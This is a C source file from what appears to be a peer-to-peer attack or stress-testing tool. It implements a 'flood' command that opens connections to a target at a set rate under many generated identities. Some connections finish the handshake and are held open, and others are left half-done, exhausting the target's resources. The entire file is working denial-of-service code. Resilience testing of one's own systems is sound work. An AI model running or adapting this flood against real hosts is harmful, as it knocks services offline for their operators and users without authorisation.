/* SPDX-License-Identifier: GPL-3.0-or-later */

#include "attack.h"

#include "attack-dial.h"
#include "report.h"

#define TICK_MSEC     10
#define MAX_UNDER_WAY 400 /* attempts; the oldest is given up for a new one */
#define MAX_HELD      300 /* connections that got in; likewise */

/* Who keeps the rules longest costs most, who breaks them at once is let go soonest. */
static const AttackDepth depths[] = { ATTACK_MULTIPLEXED, ATTACK_NOISE };

/**
 * Flood:
 * @attempts: of GCancellable, one for each attempt under way
 * @held: of GIOStream
 * @identities: of P2pIdentity, each with an address of its own
 *
 * attack flood HOST PORT SECONDS RATE IDENTITIES: new connections, so many a second. Every second one of them goes through
 * the whole handshake and then sits there, the others stop in the middle of it.
 */
typedef struct
{
  Attack    *attack;
  GQueue     attempts;
  GQueue     held;
  GPtrArray *identities;
  double     seconds;
  double     rate;
  gint64     since;
  guint      n_attempts;
  guint      n_accepted;
  guint      n_secured;
} Flood;

/* One of them. */
typedef struct
{
  Flood        *flood;
  GCancellable *cancellable;
} Attempt;

static void
attempt_cb (GObject      *source,
            GAsyncResult *result,
            gpointer      user_data)
{
  Attempt *attempt = user_data;
  Flood *self = attempt->flood;
  AttackDepth reached;
  GIOStream *stream = attack_dial_finish (result, &reached, NULL);

  self->n_accepted += reached >= ATTACK_NOISE;
  self->n_secured += reached >= ATTACK_SECURED;

  if (stream != NULL)
    g_queue_push_tail (&self->held, stream);

  if (self->held.length > MAX_HELD)
    g_object_unref (g_queue_pop_head (&self->held));

  if (g_queue_remove (&self->attempts, attempt->cancellable))
    g_object_unref (attempt->cancellable);

  g_object_unref (attempt->cancellable);
  g_free (attempt);
}

static void
begin_attempt (Flood *self)
{
  guint who = self->n_attempts % self->identities->len;
  AttackFrom from = { self->attack->target, who, self->identities->pdata[who] };
  Attempt *attempt = g_new (Attempt, 1);

  if (self->attempts.length >= MAX_UNDER_WAY)
    {
      g_autoptr(GCancellable) oldest = g_queue_pop_head (&self->attempts);

      g_cancellable_cancel (oldest);
    }

  attempt->flood = self;
  attempt->cancellable = g_cancellable_new ();
  g_queue_push_tail (&self->attempts, g_object_ref (attempt->cancellable));
  attack_dial_async (&from, depths[self->n_attempts / self->identities->len % G_N_ELEMENTS (depths)],
                     attempt->cancellable, attempt_cb, attempt);
  self->n_attempts++;
}

static void
tell (Flood *self)
{
  JsonObject *fields = json_object_new ();

  json_object_set_double_member (fields, "seconds", attack_seconds_since (self->since));
  json_object_set_int_member (fields, "attempts", self->n_attempts);
  json_object_set_int_member (fields, "accepted", self->n_accepted);
  json_object_set_int_member (fields, "secured", self->n_secured);
  report ("flood", fields);
}

static gboolean
tick_cb (gpointer user_data)
{
  Flood *self = user_data;
  double seconds = attack_seconds_since (self->since);

  if (seconds >= self->seconds)
    {
      tell (self);
      g_main_loop_quit (self->attack->loop);
      return G_SOURCE_REMOVE;
    }

  while (self->n_attempts < seconds * self->rate)
    begin_attempt (self);

  return G_SOURCE_CONTINUE;
}

void
attack_flood (Attack *attack)
{
  Flood *self = g_new0 (Flood, 1);
  guint n_identities = (guint) g_ascii_strtoull (attack->words[2], NULL, 10);

  self->attack = attack;
  self->seconds = g_ascii_strtod (attack->words[0], NULL);
  self->rate = g_ascii_strtod (attack->words[1], NULL);
  self->identities = g_ptr_array_new_with_free_func ((GDestroyNotify) p2p_identity_unref);

  for (guint i = 0; i < n_identities; i++)
    g_ptr_array_add (self->identities, p2p_identity_new ());

  self->since = g_get_monotonic_time ();
  report ("began", NULL);
  g_timeout_add (TICK_MSEC, tick_cb, self);
}
